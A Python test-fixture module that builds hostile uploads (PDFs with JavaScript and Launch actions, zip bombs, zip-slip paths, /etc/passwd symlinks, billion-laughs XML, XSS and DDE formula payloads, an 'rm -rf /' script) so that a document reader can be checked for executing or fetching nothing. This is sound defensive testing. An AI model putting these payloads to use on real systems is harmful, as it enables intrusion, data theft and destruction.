"""Uploads with something in them that no advisor may act on: scripts, links, files in files.

Most can be read; what is read then holds nothing of what they hide, and nothing was fetched or
unpacked. Each says for what it may be refused, or 'read'.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator

import openpyxl
import pptx
from pptx.util import Inches
from pypdf import PdfReader, PdfWriter

from tests.document_files import FONT, drawn, page, part, pdf_of, repacked, stream, written
from tests.hostile_office import MAIN, OLE, SENTENCE, Upload, sound, upload

POISON = "poison-7f3a"  # stands in what must never come out as text
_ENCODINGS = ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-7")


def strange(link: str) -> list[Upload]:
    """All of them; those that point outside point to this address."""
    return [
        *_acting_pdfs(link),
        *_packed_in_packed(),
        *_linking_office(link),
        *_grids(link),
        *_web_pages(link),
        *_encodings(),
        *_names(),
        *_two_in_one(),
        *_cut_at_each_tenth(),
        *_locked(),
    ]


def _acting_pdfs(link: str) -> Iterator[Upload]:
    """PDFs that want to run something, open something, or carry something."""
    tree = b"<</Type/Pages/Kids[4 0 R]/Count 1>>"
    script = f"app.alert('{POISON}'); this.submitForm('{link}');".encode()
    actions = {
        "a script": b"/OpenAction<</S/JavaScript/JS(%s)>>" % script,
        "a program": b"/OpenAction<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(%s)>>>>" % script,
        "an address": b"/OpenAction<</S/URI/URI(%s)>>" % link.encode(),
        "scripts by name": b"/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(%s)>>]>>>>" % script,
        "a form": b"/AcroForm<</Fields[]/XFA(<xdp>%s</xdp>)>>" % script,
    }
    for case, entry in actions.items():
        root = b"<</Type/Catalog/Pages 2 0 R%s>>" % entry
        objects = [root, tree, FONT, page(5), written(SENTENCE)]
        yield upload(f"pdf with {case}", "plan.pdf", pdf_of(objects), "read")
    root = b"<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles<</Names[(a.exe)6 0 R]>>>>>>"
    file = b"<</Type/Filespec/F(a.exe)/EF<</F 7 0 R>>>>"
    inside = stream(b"MZ" + POISON.encode(), b"/Type/EmbeddedFile")
    objects = [root, tree, FONT, page(5), written(SENTENCE), file, inside]
    yield upload("pdf with a file", "plan.pdf", pdf_of(objects), "read")
    outside = stream(b"", b"/F(%s)/FFilter/FlateDecode" % link.encode())
    yield upload("pdf of a drawing elsewhere", "plan.pdf", drawn(outside), "no_text", "damaged")
    kids = b" ".join(b"%d 0 R" % at for at in range(4, 10_004))
    many = b"<</Type/Pages/Kids[%s]/Count 10000>>" % kids
    empty = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"
    objects = [b"<</Type/Catalog/Pages 2 0 R>>", many, FONT, *[empty] * 10_000]
    yield upload("pdf of 10,000 pages", "plan.pdf", pdf_of(objects), "pages", "too_big", "time")
    lying = b"<</Type/Pages/Kids[4 0 R]/Count 2000000000>>"
    objects = [b"<</Type/Catalog/Pages 2 0 R>>", lying, FONT, page(5), written(SENTENCE)]
    yield upload("pdf that says 2,000,000,000", "plan.pdf", pdf_of(objects), "damaged")


def _packed_in_packed() -> Iterator[Upload]:
    """Archives in archives, and parts whose names lead out of the folder."""
    nest = POISON.encode()
    for depth in range(12):
        nest = _zip({f"{depth}.zip": nest})
    bomb = _zip({"zeros": bytes(20 << 20)})
    for kind in MAIN:
        whole, name = sound()[kind], f"plan.{kind}"
        yield upload(f"{kind} around 12 archives", name, repacked(whole, {"x/a.zip": nest}), "read")
        yield upload(f"{kind} around a bomb", name, repacked(whole, {"x/a.zip": bomb}), "read")
        for case, place in {
            "an absolute part": f"/tmp/{POISON}",
            "a part above": f"../../{POISON}",
            "a drive": f"C:\\{POISON}",
            "a long part": "x/" * 4000 + "a",
        }.items():
            packed = repacked(whole, {place: POISON.encode()})
            yield upload(f"{kind} with {case}", name, packed, "read", "damaged", "unsafe", "bomb")
        link = zipfile.ZipInfo("x/link")
        link.external_attr = 0o120777 << 16
        target = io.BytesIO(whole)
        with zipfile.ZipFile(target, "a") as archive:
            archive.writestr(link, "/etc/passwd")
        yield upload(f"{kind} with a link", name, target.getvalue(), "read", "unsafe")
    yield upload("zip in zip", "plan.docx", nest, "mislabelled")


def _linking_office(link: str) -> Iterator[Upload]:
    """Office files that point outside, or carry programs."""
    deck = pptx.Presentation()
    slide = deck.slides.add_slide(deck.slide_layouts[1])
    slide.shapes.title.text_frame.text = "Plan"
    slide.placeholders[1].text_frame.text = SENTENCE
    box = slide.shapes.add_textbox(Inches(1), Inches(1), Inches(1), Inches(1))
    box.click_action.hyperlink.address = f"file:///etc/passwd?{POISON}"
    slide.part.relate_to(link, _relation("image"), is_external=True)
    slide.part.relate_to(link, _relation("oleObject"), is_external=True)
    target = io.BytesIO()
    deck.save(target)
    yield upload("pptx with links outside", "plan.pptx", target.getvalue(), "read")
    for kind, links in {
        "docx": "word/_rels/document.xml.rels",
        "xlsx": "xl/_rels/workbook.xml.rels",
    }.items():
        whole = sound()[kind]
        for case, named in {"template": "attachedTemplate", "workbook": "externalLink"}.items():
            entry = f'<Relationship Id="rX" Type="{_relation(named)}" Target="{link}" '
            entry += 'TargetMode="External"/></Relationships>'
            changed = part(whole, links).replace(b"</Relationships>", entry.encode())
            packed = repacked(whole, {links: changed})
            yield upload(f"{kind} with a {case} outside", f"plan.{kind}", packed, "read")
    for kind, main in MAIN.items():
        folder = main.partition("/")[0]
        held = {f"{folder}/embeddings/oleObject1.bin": OLE + POISON.encode() * 50}
        packed = repacked(sound()[kind], held)
        yield upload(f"{kind} with an embedded object", f"plan.{kind}", packed, "read")
        laughs = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "%s">%s]><l>&z;</l>' % (
            POISON.encode(),
            b"".join(b'<!ENTITY %c "%s">' % (n, b"&%c;" % (n - 1) * 9) for n in range(98, 123)),
        )
        packed = repacked(sound()[kind], {"customXml/item1.xml": laughs})
        yield upload(f"{kind} laughing aside", f"plan.{kind}", packed, "unsafe")


def _relation(name: str) -> str:
    return f"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{name}"


def _grids(link: str) -> Iterator[Upload]:
    """Workbooks that are far larger than what they hold."""
    whole = sound()["xlsx"]
    sheet = "xl/worksheets/sheet1.xml"
    head = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    rows = b"".join(b'<row r="%d">%s</row>' % (at, b"<c/>" * 100) for at in range(1, 10_001))
    empty = head + b"<sheetData>" + rows + b"</sheetData></worksheet>"
    packed = repacked(whole, {sheet: empty})
    yield upload("xlsx of a million empty cells", "plan.xlsx", packed, "no_text", "time", "bomb")
    far = (
        b'<sheetData><row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>%s</t></is></c></row>'
    )
    far = head + far % SENTENCE.encode() + b"</sheetData></worksheet>"
    yield upload("xlsx with a cell far away", "plan.xlsx", repacked(whole, {sheet: far}), "read")
    wide = part(whole, sheet).replace(b"<sheetData", b'<dimension ref="A1:XFD1048576"/><sheetData')
    yield upload("xlsx that says it is vast", "plan.xlsx", repacked(whole, {sheet: wide}), "read")
    book = openpyxl.Workbook()
    book.active.append(["Plan", SENTENCE])
    book.active.append([f'=WEBSERVICE("{link}")', "=cmd|' /C calc'!A0"])
    target = io.BytesIO()
    book.save(target)
    yield upload("xlsx with formulas that act", "plan.xlsx", target.getvalue(), "read")


def _web_pages(link: str) -> Iterator[Upload]:
    acts = {
        "a script": f"<script>fetch('{link}')</script>",
        "a script in an attribute": f"<img src=x onerror=\"alert('{POISON}')\">",
        "a script as an address": f"<a href=\"javascript:alert('{POISON}')\">more</a>",
        "a frame": f'<iframe src="{link}" srcdoc="{POISON}"></iframe>',
        "a file": '<object data="file:///etc/passwd"></object><link rel=import href="/etc/passwd">',
        "a style": f"<style>@import '{link}';</style>",
        "a template": f"<template><p>{POISON}</p></template>",
        "a refresh": f'<meta http-equiv="refresh" content="0;url={link}">',
        "a form": f'<form action="{link}"><input value="{POISON}"></form>',
        "a drawing": f"<svg><script>alert('{POISON}')</script><text></text></svg>",
        "a comment": f"<!-- {POISON} --><!--[if IE]>{POISON}<![endif]-->",
        "data": f'<img src="data:text/html,{POISON}" alt="">',
    }
    for case, act in acts.items():
        text = f"<!DOCTYPE html><html><body><h1>Plan</h1><p>{SENTENCE}</p>{act}</body></html>"
        yield upload(f"html with {case}", "plan.html", text.encode(), "read")
    entities = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 9}">' for n in range(1, 12))
    laughing = f'<!DOCTYPE html [<!ENTITY e0 "ha">{entities}]><html><p>{SENTENCE} &e11;</p></html>'
    yield upload("html laughing", "plan.html", laughing.encode(), "read", "unsafe", "no_text")
    many = f"<html><p {' '.join(f'a{n}=1' for n in range(50_000))}>{SENTENCE}</p></html>"
    yield upload("html with 50,000 attributes", "plan.html", many.encode(), "read", "damaged")
    open_ = f"<html><body>{'<table><tr><td>' * 2000}{SENTENCE}</body></html>"
    yield upload("html of tables in tables", "plan.html", open_.encode(), "read", "damaged", "time")


def _encodings() -> Iterator[Upload]:
    for ending, text in {
        "txt": SENTENCE * 3,
        "md": f"# Plan\n\n{SENTENCE}",
        "html": f"<html><body><p>{SENTENCE}</p></body></html>",
    }.items():
        for code in _ENCODINGS:
            reasons = (
                ("read",) if code in ("utf-16", "utf-7") else ("read", "binary", "mislabelled")
            )
            yield upload(f"{ending} in {code}", f"plan.{ending}", text.encode(code), *reasons)
    turned = f"{SENTENCE} \u202e{POISON[::-1]}\u202c"
    yield upload("txt that runs backwards", "plan.txt", turned.encode(), "read")
    stacked = "a" + "\u0301" * 50_000 + SENTENCE
    yield upload("txt of stacked accents", "plan.txt", stacked.encode(), "read", "garbled")
    yield upload("txt on one line", "plan.txt", (SENTENCE * 1500).encode(), "read")


def _names() -> Iterator[Upload]:
    whole = sound()["docx"]
    for case, name in {
        "a NUL": "plan\0.exe\0.docx",
        "255 characters": "p" * 250 + ".docx",
        "10,000 characters": "p" * 10_000 + ".docx",
        "half a character": "plan\ud800.docx",
        "a way up": "../../../etc/cron.d/plan.docx",
        "a drive": "C:\\Windows\\plan.docx",
        "a device": "CON.docx",
        "markup": "<img src=x onerror=alert(1)>.docx",
        "a formula": "=cmd|' /C calc'!A0.docx",
        "braces": "{0.__class__}{name}.docx",
        "signs of Markdown": "[plan](javascript:alert(1)).docx",
        "quotes": "'; DROP TABLE event; --.docx",
        "dots": "....docx",
        "spaces": "   a .docx",
    }.items():
        yield upload(f"named with {case}", name, whole, "read")
    yield upload("named with a NUL at the end", "plan.docx\0.exe", whole, "unsupported")
    for ending in ("docx", "pptx", "xlsx", "html", "md", "txt"):
        yield upload(
            f"pdf named .{ending}", f"plan.{ending}", drawn(written(SENTENCE)), "mislabelled"
        )


def _two_in_one() -> Iterator[Upload]:
    """Files that are two things at once."""
    pdf = drawn(written(SENTENCE))
    for kind, whole in sound().items():
        yield upload(f"{kind} before a pdf", f"plan.{kind}", whole + pdf, "read", "mislabelled")
        reasons = ("mislabelled", "damaged", "truncated")
        yield upload(f"pdf before a {kind}", f"plan.{kind}", pdf + whole, *reasons)
        yield upload(f"{kind} after a pdf", "plan.pdf", pdf + whole, "read", "truncated")
        yield upload(f"{kind} in a picture", f"plan.{kind}", b"GIF89a" + whole, *reasons)
    page_ = f"<html><script>{POISON}</script></html>".encode()
    yield upload("page before a pdf", "plan.pdf", page_ + pdf, "read", "mislabelled", "damaged")
    yield upload("pdf as a page", "plan.html", page_ + pdf, "mislabelled", "binary")
    script = b"#!/bin/sh\nrm -rf /\n"
    yield upload("script as a text", "plan.txt", script + SENTENCE.encode(), "read")
    yield upload("program as a pdf", "plan.pdf", b"MZ" + bytes(90) + pdf, "mislabelled", "read")


def _cut_at_each_tenth() -> Iterator[Upload]:
    page_ = f"<html><body>{f'<p>{SENTENCE}</p>' * 30}</body></html>".encode()
    wholes = {**sound(), "pdf": drawn(*[written(*[SENTENCE] * 30)] * 5), "html": page_}
    for kind, whole in wholes.items():
        for tenth in range(1, 10):
            content = whole[: len(whole) * tenth // 10]
            yield upload(f"{kind} cut at {tenth}/10", f"plan.{kind}", content, "truncated")


def _locked() -> Iterator[Upload]:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(drawn(written(SENTENCE)))))
    writer.encrypt(user_password="", owner_password="minister", algorithm="RC4-128")
    target = io.BytesIO()
    writer.write(target)
    yield upload(
        "pdf locked for its owner only", "plan.pdf", target.getvalue(), "read", "encrypted"
    )
    for version in (4, 5):
        lock = b"/Encrypt<</Filter/Standard/V %d/R %d/Length %d/P -4/O(%s)/U(%s)" % (
            *(version, version + 1 if version == 5 else 4, 256 if version == 5 else 128),
            *(b"o" * 48, b"u" * 48),
        )
        crypt = b"/CF<</StdCF<</CFM/%s>>>>" % (b"AESV3" if version == 5 else b"AESV2")
        lock += crypt + b"/StmF/StdCF/StrF/StdCF>>/ID[(a)(a)]"
        root, tree = b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[4 0 R]/Count 1>>"
        noise = stream(zlib.compress(POISON.encode() * 90))
        content = pdf_of([root, tree, FONT, page(5), noise], lock)
        yield upload(f"pdf locked by AES {version}", "plan.pdf", content, "encrypted", "damaged")
    directory = struct.pack("<26x2H", 0x3E, 3) + bytes(480)
    for name in ("EncryptedPackage", "DataSpaces"):
        held = OLE + directory + name.encode("utf-16-le") + bytes(3000)
        for kind in MAIN:
            reasons = ("encrypted", "old_office")
            yield upload(f"{kind} locked in {name}", f"plan.{kind}", held, *reasons)


def _zip(parts: dict[str, bytes]) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return target.getvalue()
